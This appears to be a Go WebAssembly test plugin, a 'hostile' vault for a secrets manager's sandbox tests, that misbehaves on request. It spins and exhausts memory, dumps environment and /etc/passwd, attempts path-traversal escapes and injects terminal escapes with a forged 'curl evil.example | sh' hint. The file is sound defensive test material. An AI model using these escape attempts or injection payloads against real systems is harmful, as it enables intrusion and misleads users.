//go:build wasip1

// Command hostile is a vault that misbehaves on request, for the sandbox's
// tests. Get(name) does what name says:
//
//	loop     spins forever
//	sleep    time.Sleep(time.Hour)
//	panic    panics (a trap)
//	exit     os.Exit(3) (proc_exit)
//	oom      allocates and touches memory until the runtime dies
//	recurse  recurses without bound
//	count    how many Get, Set, Remove and List calls this instance has served, this one included
//	rand     32 bytes from crypto/rand
//	now      time.Now().UTC() in RFC 3339 with nanoseconds
//	env      os.Environ(), one per line
//	args     os.Args, one per line
//	file     the content of /etc/passwd, or the error reading it
//	log      logs 10 000 lines
//	bigout   outputs 32 MiB through the raw output import and returns its status
//	bigerr   sets a 1 MiB error message through the raw error import, returns INTERNAL
//	garbage  allocates 256 KiB and drops it: memory stays bounded only if
//	         the garbage collector runs between calls (the SDK's yield)
//	escape   tries to reach the host's files (absolute paths, "..", the
//	         /data mount, /proc) and to create files; one line per attempt,
//	         "PATH: ok N bytes" or "PATH: ERROR"
//	keys     every key of its storage area, whatever the prefix, one per line
//	entries  every record under s/ with its value, KEY=VALUE per line (guest.KVEntries)
//	ansi     fails with a message and log lines full of terminal escapes,
//	         newlines and a forged "sesame: hint:" line
//
// Any other name is an ordinary, case-sensitive secret in host storage, so
// Set, Get, Remove and List round-trip. Set("trapmidset", …) writes the
// secret's record and then panics.
//
// With the vault parameter lie = "metadata", Set drops the metadata it is
// given although the manifest says the vault keeps metadata: a lie that only
// the conformance suite can catch.
package main

import (
	"crypto/rand"
	"errors"
	"os"
	"strconv"
	"strings"
	"time"
	"unsafe"

	"github.com/sesamehq/sesame/abi"
	"github.com/sesamehq/sesame/abi/guest"
)

func init() {
	guest.Register(abi.Manifest{
		Name:          "hostile",
		Version:       "0.0.1",
		Description:   "misbehaves on purpose: \"loop\", \"sleep\", \\ and\ttabs…",
		Metadata:      true,
		CaseSensitive: true,
		Grants:        []string{abi.GrantStorage},
	}, hostile{})
}

func main() {}

// The raw host functions, declared here as well so that bigout and bigerr
// can pass what the SDK would cut or refuse.

//go:wasmimport sesame_v1 output
func rawOutput(src unsafe.Pointer, n uint32) uint32

//go:wasmimport sesame_v1 error
func rawError(src unsafe.Pointer, n uint32) uint32

type hostile struct{}

// lie is the vault parameter "lie", set by Init.
var lie string

func (hostile) Init(_ string, params map[string]string) error {
	lie = params["lie"]
	return nil
}

// served counts the calls this instance has served. It lives in the
// instance's memory, so a fresh instance starts again from zero.
var served int

// sink keeps what loop, oom and recurse compute alive, so that the compiler
// cannot remove the work.
var (
	sink    uint64
	heaps   [][]byte
	garbage []byte
)

func str(s string) abi.Value { return abi.Value{Type: abi.TypeString, Data: []byte(s)} }

func info(name string, v abi.Value) abi.Info { return abi.Info{Name: name, Type: v.Type} }

func (hostile) Get(name string) (abi.Info, abi.Value, error) {
	served++
	var v abi.Value
	switch name {
	case "loop":
		for i := uint64(1); ; i++ {
			sink += i * i
		}
	case "sleep":
		time.Sleep(time.Hour)
		v = str("woke up")
	case "panic":
		panic("hostile: panic on request")
	case "exit":
		os.Exit(3)
	case "oom":
		for {
			b := make([]byte, 1<<20)
			for i := 0; i < len(b); i += 4096 {
				b[i] = 1
			}
			heaps = append(heaps, b)
		}
	case "recurse":
		sink = recurse(1)
		v = str(strconv.FormatUint(sink, 10))
	case "garbage":
		garbage = make([]byte, 256<<10)
		garbage[0] = 1
		v = str("ok")
	case "count":
		v = str(strconv.Itoa(served))
	case "escape":
		v = str(escape())
	case "keys":
		var keys []string
		err := guest.KVScan(nil, func(k []byte) bool { keys = append(keys, string(k)); return true })
		if err != nil {
			return abi.Info{}, abi.Value{}, err
		}
		v = str(strings.Join(keys, "\n"))
	case "entries": // the records with their values, through kv_scan
		var lines []string
		err := guest.KVEntries([]byte("s/"), func(k, rec []byte) bool {
			_, val, _ := abi.DecodeSecret(rec)
			lines = append(lines, string(k)+"="+string(val.Data))
			return true
		})
		if err != nil {
			return abi.Info{}, abi.Value{}, err
		}
		v = str(strings.Join(lines, "\n"))
	case "ansi":
		guest.Log(guest.LogError, "\x1b[2J\x1b]0;owned\x07line one\nsesame: error: forged\r\x1b[31m")
		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "\x1b]0;owned\x07bad\x1b[2J\nsesame: hint: run curl evil.example | sh\r\u202eevil")
	case "rand":
		v = abi.Value{Type: abi.TypeBytes, Data: make([]byte, 32)}
		if _, err := rand.Read(v.Data); err != nil {
			return abi.Info{}, abi.Value{}, err
		}
	case "now":
		v = str(time.Now().UTC().Format(time.RFC3339Nano))
	case "env":
		v = str(strings.Join(os.Environ(), "\n"))
	case "args":
		v = str(strings.Join(os.Args, "\n"))
	case "file":
		b, err := os.ReadFile("/etc/passwd")
		if err != nil {
			b = []byte(err.Error())
		}
		v = abi.Value{Type: abi.TypeBytes, Data: b}
	case "log":
		for i := range 10_000 {
			guest.Log(guest.LogInfo, "hostile: line "+strconv.Itoa(i))
		}
		v = str("logged 10000 lines")
	case "bigout":
		b := make([]byte, 32<<20)
		s := abi.Status(rawOutput(unsafe.Pointer(unsafe.SliceData(b)), uint32(len(b))))
		if s == abi.OK {
			return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "hostile: the host accepted an output of 32 MiB")
		}
		return abi.Info{}, abi.Value{}, guest.Error(s, "") // keep the host's status
	case "bigerr":
		msg := strings.Repeat("e", 1<<20)
		rawError(unsafe.Pointer(unsafe.StringData(msg)), uint32(len(msg)))
		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "") // keep that message
	default:
		return load(name)
	}
	return info(name, v), v, nil
}

// escape tries every way out of the sandbox that a file path offers and
// reports each outcome.
func escape() string {
	var lines []string
	for _, p := range []string{
		"/etc/passwd", "../../../../../../etc/passwd", "/proc/self/environ",
		"/data", "/data/../../etc/passwd", ".", "/", "/tmp",
	} {
		if b, err := os.ReadFile(p); err == nil {
			lines = append(lines, p+": ok "+strconv.Itoa(len(b))+" bytes")
		} else if entries, derr := os.ReadDir(p); derr == nil {
			lines = append(lines, p+": ok "+strconv.Itoa(len(entries))+" entries")
		} else {
			lines = append(lines, p+": "+err.Error())
		}
	}
	for _, p := range []string{"/tmp/hostile-was-here", "hostile-was-here", "/data/hostile-was-here"} {
		if err := os.WriteFile(p, []byte("x"), 0o644); err == nil {
			lines = append(lines, p+": ok created")
		} else {
			lines = append(lines, p+": "+err.Error())
		}
	}
	return strings.Join(lines, "\n")
}

// recurse never returns; the frame's array makes each call use stack, and
// the use of the result after the call keeps it from being a tail call.
func recurse(n uint64) uint64 {
	var frame [256]uint64
	frame[n%256] = n
	return recurse(n+1) + frame[(n+1)%256]
}

func (hostile) Set(name string, v abi.Value, md abi.Metadata) error {
	served++
	in := abi.Info{Name: name, Type: v.Type, Metadata: md}
	if lie == "metadata" {
		in.Metadata = nil
	} else if md == nil {
		old, _, err := load(name)
		switch {
		case err == nil:
			in.Metadata = old.Metadata
		case !errors.Is(err, abi.NotFound):
			return err
		}
	}
	rec, err := abi.AppendSecret(nil, in, v)
	if err != nil {
		return err
	}
	if err := guest.KVSet(key(name), rec); err != nil {
		return err
	}
	if name == "trapmidset" {
		panic("hostile: panic after writing the record of trapmidset")
	}
	return nil
}

func (hostile) Remove(name string) error {
	served++
	return guest.KVDelete(key(name))
}

func (hostile) List(pattern string) ([]abi.Info, error) {
	served++
	var list []abi.Info
	var failed error
	err := guest.KVScan([]byte("s/"), func(k []byte) bool {
		name := string(k[2:])
		if !abi.Match(pattern, name, true) {
			return true
		}
		in, _, err := load(name)
		if err != nil && !errors.Is(err, abi.NotFound) {
			failed = err
			return false
		}
		if err == nil {
			list = append(list, in)
		}
		return true
	})
	if err == nil {
		err = failed
	}
	return list, err
}

func key(name string) []byte { return []byte("s/" + name) }

func load(name string) (abi.Info, abi.Value, error) {
	rec, err := guest.KVGet(key(name))
	if errors.Is(err, abi.NotFound) {
		return abi.Info{}, abi.Value{}, abi.NotFound // no message
	}
	if err != nil {
		return abi.Info{}, abi.Value{}, err
	}
	in, v, err := abi.DecodeSecret(rec)
	if err != nil {
		return abi.Info{}, abi.Value{}, guest.Error(abi.Internal, "hostile: corrupt record")
	}
	return in, v, nil
}
